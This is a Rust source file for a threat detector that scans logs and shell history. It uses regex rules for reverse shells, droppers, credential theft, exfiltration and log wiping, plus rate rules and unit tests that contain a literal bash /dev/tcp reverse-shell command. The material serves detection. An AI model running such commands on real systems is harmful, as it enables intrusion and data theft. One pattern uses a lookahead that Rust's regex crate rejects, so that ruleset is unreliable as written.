//! Threat detector (C5): pattern rules + sliding-window rate rules +
//! per-key alert cooldown.
//!
//! `DetectorState` is process-global, the one piece of truly ambient shared
//! state the pipeline needs (§3 of the spec), modeled the way the teacher
//! models its own global logger state: a `Lazy<Mutex<_>>` behind small
//! accessor functions rather than scattered `static mut`/ambient access.

use std::collections::{HashMap, VecDeque};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use ahash::AHashMap;
use once_cell::sync::Lazy;
use parking_lot::Mutex;
use regex::Regex;

use crate::levels::Level;
use crate::model::{Severity, ThreatEvent};

pub const BRUTE_FORCE_THRESHOLD: usize = 5;
pub const BRUTE_FORCE_WINDOW: u64 = 60;
pub const PORT_SCAN_THRESHOLD: usize = 15;
pub const PORT_SCAN_WINDOW: u64 = 30;
pub const FLOOD_THRESHOLD: usize = 50;
pub const FLOOD_WINDOW: u64 = 10;
pub const ERROR_SPIKE_THRESHOLD: usize = 20;
pub const ERROR_SPIKE_WINDOW: u64 = 30;
pub const ALERT_COOLDOWN: u64 = 300;

const AUTH_FAIL_CUES: &[&str] = &[
    "failed password",
    "authentication failure",
    "invalid user",
    "failed login",
    "access denied",
    "login failed",
    "wrong password",
];

/// `(regex, threat_type, severity)` — evaluated in order, first match wins.
type PatternRule = (Regex, &'static str, Severity);

fn build_patterns(table: &[(&str, &str, Severity)]) -> Vec<PatternRule> {
    table
        .iter()
        .map(|(pat, kind, sev)| {
            (
                Regex::new(&format!("(?i){pat}")).expect("static pattern must compile"),
                *kind,
                *sev,
            )
        })
        .collect()
}

static MALICIOUS_PATTERNS: Lazy<Vec<PatternRule>> = Lazy::new(|| {
    use Severity::*;
    build_patterns(&[
        (r"bash\s+-i\s+>&\s*/dev/tcp", "Reverse Shell", Critical),
        (r"nc\s+-e\s+/bin", "Reverse Shell", Critical),
        (r"python.*socket.*connect", "Reverse Shell", High),
        (r"powershell.*encodedcommand", "Encoded Payload", Critical),
        (r"union\s+select", "SQL Injection", High),
        (r"'\s*or\s+'1'\s*=\s*'1", "SQL Injection", High),
        (r"\.\./\.\./", "Path Traversal", High),
        (r"<script[^>]*>", "XSS Attempt", Medium),
        (r"eval\s*\(|exec\s*\(", "Code Execution", High),
        (r"wget\s+http|curl\s+-[a-z]*\s+http", "Dropper Download", High),
        (r"sudo\s+-[a-zA-Z]*s", "Privilege Escalation", High),
        (r"chmod\s+[4-7]777", "SUID Backdoor", High),
        (r"/etc/passwd|/etc/shadow", "Credential Access", High),
        (r"crontab\s+-[a-z]*e|/etc/cron", "Persistence", Medium),
        (r"systemctl\s+enable", "Service Persistence", Low),
        (r"/tmp/\.", "Hidden Tmp File", Medium),
        (r"xmrig|cryptonight|monero", "Cryptominer", High),
        (r"ransom|encrypt.*files|\.locked", "Ransomware", Critical),
        (r"nmap|masscan|zmap", "Port Scanner", Medium),
        (r"nikto|sqlmap|hydra|medusa", "Attack Tool", High),
        (
            r"failed password|authentication failure|invalid user",
            "Auth Failure",
            Low,
        ),
    ])
});

static SHELL_HISTORY_PATTERNS: Lazy<Vec<PatternRule>> = Lazy::new(|| {
    use Severity::*;
    build_patterns(&[
        (r"bash\s+-i\s+>&\s*/dev/tcp", "Reverse Shell", Critical),
        (r"nc\s+(-e|--exec)\s+/bin", "Reverse Shell", Critical),
        (r"python.*-c.*socket.*connect", "Reverse Shell", Critical),
        (r"perl.*-e.*socket", "Reverse Shell", High),
        (r"socat.*exec.*bash", "Reverse Shell", Critical),
        (r"mkfifo\s+/tmp/.*nc\s+", "Reverse Shell", Critical),
        (r"sudo\s+su\b|sudo\s+-i\b|sudo\s+bash\b", "Root Escalation", Critical),
        (
            r"sudo\s+chmod\s+[4-7][0-7]{3}\s+/bin/(ba)?sh",
            "SUID Shell Backdoor",
            Critical,
        ),
        (r"chmod\s+[4-7][0-7]{3}\s+/tmp/", "SUID Backdoor in /tmp", Critical),
        (r"find\s+/.*-perm\s+-4000", "SUID Enumeration", High),
        (r"pkexec\s+|polkit", "Polkit Escalation", High),
        (r"env\s+.*LD_PRELOAD", "LD_PRELOAD Hijack", Critical),
        (r"\$\(id\).*root|id.*uid=0", "Root Check", Medium),
        (r"crontab\s+-e|echo.*>.*cron", "Cron Persistence", High),
        (
            r"echo.*>>\s*/etc/(rc\.local|profile|bashrc|bash_profile|crontab)",
            "RC/Profile Persistence",
            High,
        ),
        (r"systemctl\s+enable\s+\S+", "Service Persistence", Medium),
        (r"echo.*>\.ssh/authorized_keys", "SSH Key Backdoor", Critical),
        (r"cat\s+>>\s*~?\.ssh/authorized_keys", "SSH Key Backdoor", Critical),
        (r"cat\s+/etc/shadow|cat\s+/etc/passwd", "Credential Dump", High),
        (r"unshadow|john\s+--|hashcat", "Password Cracking", High),
        (r"mimikatz|lsadump|sekurlsa", "Credential Dumping", Critical),
        (r"cat\s+~/.ssh/(id_rsa|id_ed25519)\b", "SSH Key Theft", Critical),
        (r"history\s*-c|unset\s+HISTFILE|HISTSIZE=0", "History Clearing", High),
        (r"curl\s+--data|curl\s+-d\s+.*http", "Data Exfiltration", High),
        (r"rsync\s+.*@.*:\s*/|scp\s+.*/etc/", "Remote File Copy", High),
        (r"tar\s+.*\|.*nc\s+", "Tar Exfil over Netcat", Critical),
        (
            r"base64\s+-d.*\|.*bash|echo.*base64.*\|.*bash",
            "Base64 Payload Exec",
            Critical,
        ),
        (r"curl.*\|\s*bash|wget.*\|.*bash", "Curl Pipe to Bash", Critical),
        (r"ssh\s+-o\s+StrictHostKeyChecking=no", "SSH No-Check Connect", Medium),
        (r"for\s+ip\s+in|for\s+host\s+in.*ssh", "SSH Lateral Sweep", High),
        (r"proxychains|sshuttle", "Traffic Tunneling", High),
        (r"nmap\s+|masscan\s+|zmap\s+", "Port Scan Tool", Medium),
        (r"nikto|sqlmap|gobuster|dirbuster|wfuzz", "Web Attack Tool", High),
        (r"hydra|medusa|crackmapexec|ncrack", "Brute Force Tool", High),
        (r"linpeas|linenum|linux-exploit-suggester", "Linux Privesc Script", High),
        (r"\bwhoami\b.*&&|id\s*&&.*sudo", "Recon Chain", Medium),
        (r"wget\s+.*-O\s+/tmp/|curl\s+.*-o\s+/tmp/", "Dropper to /tmp", High),
        (r"chmod\s+\+x\s+/tmp/", "Execute from /tmp", High),
        (r"xmrig|minerd|cpuminer", "Cryptominer", High),
        (r"rm\s+-rf\s+/(?!tmp)", "Destructive rm -rf", Critical),
        (r"shred\s+|wipe\s+|rm\s+.*\.log", "Log Deletion", High),
        (r">\s*/var/log/|truncate.*--size=0.*/var/log", "Log Truncation", High),
        (r"echo\s*>\s*/var/log", "Log Clearing", High),
    ])
});

static PORT_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)(?:DPT|dport|D?PORT)[=:\s]+(\d+)").unwrap());

fn recommend(threat_type: &str) -> String {
    let text = match threat_type {
        "Reverse Shell" => "Kill the process immediately: sudo ss -tp | grep <port>",
        "SQL Injection" => "Review WAF / application logs and patch input validation.",
        "Path Traversal" => "Patch web app input sanitization; check accessed files.",
        "XSS Attempt" => "Check if payload was reflected; review CSP headers.",
        "Code Execution" => "Isolate the host; perform forensics on execution context.",
        "Dropper Download" => "Block outbound wget/curl; check /tmp for new binaries.",
        "Privilege Escalation" => "Audit sudoers; check SUID binaries with: find / -perm -4000",
        "SUID Backdoor" => "Investigate file: remove SUID and audit who changed it.",
        "Credential Access" => "Rotate credentials; check /etc/passwd and /etc/shadow.",
        "Port Scanner" => "Block source IP; review firewall rules.",
        "Cryptominer" => "Kill miner process; audit cron and startup scripts.",
        "Ransomware" => "ISOLATE HOST IMMEDIATELY. Do not pay ransom.",
        "Persistence" => "Audit cron jobs and systemd services for unknown entries.",
        "Attack Tool" => "Block source IP; review affected services.",
        "Encoded Payload" => "Decode and analyze the payload; check for execution.",
        _ => "Investigate the log entry immediately.",
    };
    text.to_string()
}

fn now_secs() -> f64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or(Duration::ZERO)
        .as_secs_f64()
}

/// Sliding window of timestamped events, counting total occurrences.
struct SlidingWindow {
    window: f64,
    events: VecDeque<f64>,
}

impl SlidingWindow {
    fn new(window_secs: u64) -> Self {
        SlidingWindow {
            window: window_secs as f64,
            events: VecDeque::new(),
        }
    }

    fn add(&mut self, now: f64) {
        self.events.push_back(now);
        self.cull(now);
    }

    fn count(&mut self, now: f64) -> usize {
        self.cull(now);
        self.events.len()
    }

    fn cull(&mut self, now: f64) {
        let cutoff = (now - self.window).max(0.0);
        while let Some(&front) = self.events.front() {
            if front < cutoff {
                self.events.pop_front();
            } else {
                break;
            }
        }
    }
}

/// Sliding window counting *unique* values seen within the window.
struct SetSlidingWindow {
    window: f64,
    events: VecDeque<(f64, String)>,
}

impl SetSlidingWindow {
    fn new(window_secs: u64) -> Self {
        SetSlidingWindow {
            window: window_secs as f64,
            events: VecDeque::new(),
        }
    }

    fn add(&mut self, now: f64, value: String) {
        self.events.push_back((now, value));
        self.cull(now);
    }

    fn unique_count(&mut self, now: f64) -> usize {
        self.cull(now);
        let set: std::collections::HashSet<&str> =
            self.events.iter().map(|(_, v)| v.as_str()).collect();
        set.len()
    }

    fn cull(&mut self, now: f64) {
        let cutoff = (now - self.window).max(0.0);
        while let Some((ts, _)) = self.events.front() {
            if *ts < cutoff {
                self.events.pop_front();
            } else {
                break;
            }
        }
    }
}

/// Stateful, per-session threat detector. One instance is the process-global
/// [`DetectorState`] singleton; tests construct independent instances to
/// avoid cross-test interference.
pub struct Detector {
    brute: AHashMap<String, SlidingWindow>,
    scan: AHashMap<String, SetSlidingWindow>,
    flood: AHashMap<String, SlidingWindow>,
    errors: SlidingWindow,
    alerted_brute: HashMap<String, f64>,
    alerted_scan: HashMap<String, f64>,
    alerted_flood: HashMap<String, f64>,
    alerted_error: HashMap<String, f64>,
}

impl Default for Detector {
    fn default() -> Self {
        Detector {
            brute: AHashMap::new(),
            scan: AHashMap::new(),
            flood: AHashMap::new(),
            errors: SlidingWindow::new(ERROR_SPIKE_WINDOW),
            alerted_brute: HashMap::new(),
            alerted_scan: HashMap::new(),
            alerted_flood: HashMap::new(),
            alerted_error: HashMap::new(),
        }
    }
}

impl Detector {
    pub fn new() -> Self {
        Self::default()
    }

    fn should_alert(store: &mut HashMap<String, f64>, key: &str, now: f64) -> bool {
        let last = *store.get(key).unwrap_or(&0.0);
        if now - last >= ALERT_COOLDOWN as f64 {
            store.insert(key.to_string(), now);
            true
        } else {
            false
        }
    }

    fn is_auth_fail(message: &str) -> bool {
        let lower = message.to_lowercase();
        AUTH_FAIL_CUES.iter().any(|cue| lower.contains(cue))
    }

    fn extract_dport(message: &str) -> Option<String> {
        PORT_RE.captures(message).map(|c| c[1].to_string())
    }

    fn check_patterns(message: &str, source: &str, source_ip: Option<&str>) -> Option<ThreatEvent> {
        for (re, threat_type, severity) in MALICIOUS_PATTERNS.iter() {
            if re.is_match(message) {
                if *threat_type == "Auth Failure" {
                    // Signal only; fed into rule 2, never itself an event.
                    return None;
                }
                return Some(ThreatEvent {
                    threat_type: threat_type.to_string(),
                    severity: *severity,
                    description: format!("Pattern '{threat_type}' matched in log from '{source}'"),
                    source_ip: source_ip.map(|s| s.to_string()),
                    log_source: Some(source.to_string()),
                    recommendation: recommend(threat_type),
                });
            }
        }
        None
    }

    /// Analyze one enriched line. Evaluation order: pattern rules, brute
    /// force, port scan, source flood, error spike — first positive result
    /// wins.
    pub fn analyze(
        &mut self,
        source: &str,
        level: Level,
        message: &str,
        source_ip: Option<&str>,
        _dest_ip: Option<&str>,
        _event_id: Option<&str>,
    ) -> Option<ThreatEvent> {
        let now = now_secs();

        if let Some(t) = Self::check_patterns(message, source, source_ip) {
            return Some(t);
        }

        if let Some(ip) = source_ip {
            if Self::is_auth_fail(message) {
                let window = self
                    .brute
                    .entry(ip.to_string())
                    .or_insert_with(|| SlidingWindow::new(BRUTE_FORCE_WINDOW));
                window.add(now);
                let count = window.count(now);
                if count >= BRUTE_FORCE_THRESHOLD && Self::should_alert(&mut self.alerted_brute, ip, now)
                {
                    return Some(ThreatEvent {
                        threat_type: "Brute Force".into(),
                        severity: Severity::High,
                        description: format!(
                            "{count} failed auth attempts from {ip} in {BRUTE_FORCE_WINDOW}s"
                        ),
                        source_ip: Some(ip.to_string()),
                        log_source: Some(source.to_string()),
                        recommendation: format!("Block IP {ip} with: sudo ufw deny from {ip}"),
                    });
                }
            }

            if let Some(dport) = Self::extract_dport(message) {
                let window = self
                    .scan
                    .entry(ip.to_string())
                    .or_insert_with(|| SetSlidingWindow::new(PORT_SCAN_WINDOW));
                window.add(now, dport);
                let count = window.unique_count(now);
                if count >= PORT_SCAN_THRESHOLD && Self::should_alert(&mut self.alerted_scan, ip, now) {
                    return Some(ThreatEvent {
                        threat_type: "Port Scan".into(),
                        severity: Severity::High,
                        description: format!(
                            "{count} unique ports probed by {ip} in {PORT_SCAN_WINDOW}s"
                        ),
                        source_ip: Some(ip.to_string()),
                        log_source: Some(source.to_string()),
                        recommendation: format!("Block scanner: sudo ufw deny from {ip}"),
                    });
                }
            }
        }

        let flood_window = self
            .flood
            .entry(source.to_string())
            .or_insert_with(|| SlidingWindow::new(FLOOD_WINDOW));
        flood_window.add(now);
        let flood_count = flood_window.count(now);
        if flood_count >= FLOOD_THRESHOLD
            && Self::should_alert(&mut self.alerted_flood, source, now)
        {
            return Some(ThreatEvent {
                threat_type: "Log Flood".into(),
                severity: Severity::Medium,
                description: format!(
                    "{flood_count} log lines from '{source}' in {FLOOD_WINDOW}s — possible DoS or misconfiguration"
                ),
                source_ip: None,
                log_source: Some(source.to_string()),
                recommendation: "Investigate the source for runaway process or flood.".into(),
            });
        }

        if matches!(level, Level::Error | Level::Critical) {
            self.errors.add(now);
            let count = self.errors.count(now);
            if count >= ERROR_SPIKE_THRESHOLD
                && Self::should_alert(&mut self.alerted_error, "_global_", now)
            {
                return Some(ThreatEvent {
                    threat_type: "Error Spike".into(),
                    severity: Severity::Medium,
                    description: format!(
                        "{count} ERROR/CRITICAL logs in {ERROR_SPIKE_WINDOW}s — system may be under attack or failing"
                    ),
                    source_ip: None,
                    log_source: None,
                    recommendation: "Check recent ERROR logs for root cause.".into(),
                });
            }
        }

        None
    }

    /// Check one shell-history command against the shell-specific ruleset.
    /// Stateless — no rate limiting, matches the original's behavior.
    pub fn analyze_shell_command(
        &self,
        command: &str,
        shell_file: &str,
        user: Option<&str>,
    ) -> Option<ThreatEvent> {
        for (re, threat_type, severity) in SHELL_HISTORY_PATTERNS.iter() {
            if re.is_match(command) {
                let who = match user {
                    Some(u) => format!("user '{u}'"),
                    None => format!("history file '{shell_file}'"),
                };
                let snippet: String = command.chars().take(120).collect();
                return Some(ThreatEvent {
                    threat_type: threat_type.to_string(),
                    severity: *severity,
                    description: format!("[Shell History] {threat_type} detected in {who}: {snippet}"),
                    source_ip: None,
                    log_source: Some(shell_file.to_string()),
                    recommendation: recommend(threat_type),
                });
            }
        }
        None
    }
}

/// Process-global detector singleton.
static DETECTOR: Lazy<Mutex<Detector>> = Lazy::new(|| Mutex::new(Detector::default()));

/// Run a closure against the global detector, holding its lock for the
/// duration. Mirrors the teacher's `with_state` accessor idiom.
pub fn with_detector<R>(f: impl FnOnce(&mut Detector) -> R) -> R {
    let mut guard = DETECTOR.lock();
    f(&mut guard)
}

/// Reset the global detector to a fresh state. Used by integration tests
/// that need isolation between scenarios.
pub fn reset_detector() {
    with_detector(|d| *d = Detector::default());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn auth_failure_pattern_alone_emits_nothing() {
        let mut d = Detector::new();
        let event = d.analyze(
            "/var/log/auth.log",
            Level::Info,
            "sshd: Failed password for invalid user test",
            Some("203.0.113.1"),
            None,
            None,
        );
        assert!(event.is_none());
    }

    #[test]
    fn s1_reverse_shell_pattern_hit() {
        let mut d = Detector::new();
        let event = d
            .analyze(
                "/var/log/app.log",
                Level::Info,
                "cmd = bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                None,
                None,
                None,
            )
            .expect("expected a threat event");
        assert_eq!(event.threat_type, "Reverse Shell");
        assert_eq!(event.severity, Severity::Critical);
    }

    #[test]
    fn s2_brute_force_triggers_on_fifth() {
        let mut d = Detector::new();
        let ip = "203.0.113.9";
        for i in 0..4 {
            let event = d.analyze(
                "/var/log/auth.log",
                Level::Error,
                "Failed password for root",
                Some(ip),
                None,
                None,
            );
            assert!(event.is_none(), "unexpected alert on attempt {i}");
        }
        let event = d
            .analyze(
                "/var/log/auth.log",
                Level::Error,
                "Failed password for root",
                Some(ip),
                None,
                None,
            )
            .expect("5th failure should trigger brute force");
        assert_eq!(event.threat_type, "Brute Force");
        assert_eq!(event.severity, Severity::High);

        // Cooldown: a 6th failure right away must not re-trigger.
        let event = d.analyze(
            "/var/log/auth.log",
            Level::Error,
            "Failed password for root",
            Some(ip),
            None,
            None,
        );
        assert!(event.is_none());
    }

    #[test]
    fn s5_port_scan_triggers_on_fifteenth_unique_port() {
        let mut d = Detector::new();
        let ip = "198.51.100.7";
        for port in 1..15 {
            let event = d.analyze(
                "/var/log/kern.log",
                Level::Info,
                &format!("IN=eth0 SRC={ip} DST=10.0.0.1 DPT={port}"),
                Some(ip),
                None,
                None,
            );
            assert!(event.is_none());
        }
        let event = d
            .analyze(
                "/var/log/kern.log",
                Level::Info,
                &format!("IN=eth0 SRC={ip} DST=10.0.0.1 DPT=15"),
                Some(ip),
                None,
                None,
            )
            .expect("15th unique port should trigger scan alert");
        assert_eq!(event.threat_type, "Port Scan");

        // Repeating the same ports should not re-trigger within cooldown.
        for port in 1..16 {
            let event = d.analyze(
                "/var/log/kern.log",
                Level::Info,
                &format!("IN=eth0 SRC={ip} DST=10.0.0.1 DPT={port}"),
                Some(ip),
                None,
                None,
            );
            assert!(event.is_none());
        }
    }

    #[test]
    fn source_flood_triggers_at_threshold() {
        let mut d = Detector::new();
        for _ in 0..49 {
            let event = d.analyze("/var/log/app.log", Level::Info, "ping", None, None, None);
            assert!(event.is_none());
        }
        let event = d
            .analyze("/var/log/app.log", Level::Info, "ping", None, None, None)
            .expect("50th line should trigger flood");
        assert_eq!(event.threat_type, "Log Flood");
    }

    #[test]
    fn error_spike_is_global_not_per_source() {
        let mut d = Detector::new();
        for i in 0..19 {
            let event = d.analyze(&format!("/var/log/app{i}.log"), Level::Error, "boom", None, None, None);
            assert!(event.is_none());
        }
        let event = d
            .analyze("/var/log/app19.log", Level::Error, "boom", None, None, None)
            .expect("20th ERROR should trigger spike");
        assert_eq!(event.threat_type, "Error Spike");
    }

    #[test]
    fn shell_history_reverse_shell() {
        let d = Detector::new();
        let event = d
            .analyze_shell_command("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "/home/bob/.bash_history", Some("bob"))
            .expect("reverse shell command should match");
        assert_eq!(event.threat_type, "Reverse Shell");
        assert!(event.description.contains("bob"));
    }

    #[test]
    fn shell_history_benign_command_no_threat() {
        let d = Detector::new();
        assert!(d
            .analyze_shell_command("ls -la /tmp", "/home/bob/.bash_history", Some("bob"))
            .is_none());
    }

    #[test]
    fn cooldown_gap_is_respected() {
        let mut store = HashMap::new();
        assert!(Detector::should_alert(&mut store, "k", 1000.0));
        assert!(!Detector::should_alert(&mut store, "k", 1100.0));
        assert!(Detector::should_alert(&mut store, "k", 1000.0 + ALERT_COOLDOWN as f64));
    }

    #[test]
    fn sliding_window_zero_does_not_panic() {
        let mut w = SlidingWindow::new(0);
        w.add(100.0);
        assert_eq!(w.count(100.0), 1);
        assert_eq!(w.count(100.1), 0);
    }

    #[test]
    fn sliding_window_clock_backwards_stays_nonnegative() {
        let mut w = SlidingWindow::new(60);
        w.add(30.0);
        // "now" earlier than window would make cutoff negative; must clamp.
        assert_eq!(w.count(10.0), 1);
    }
}
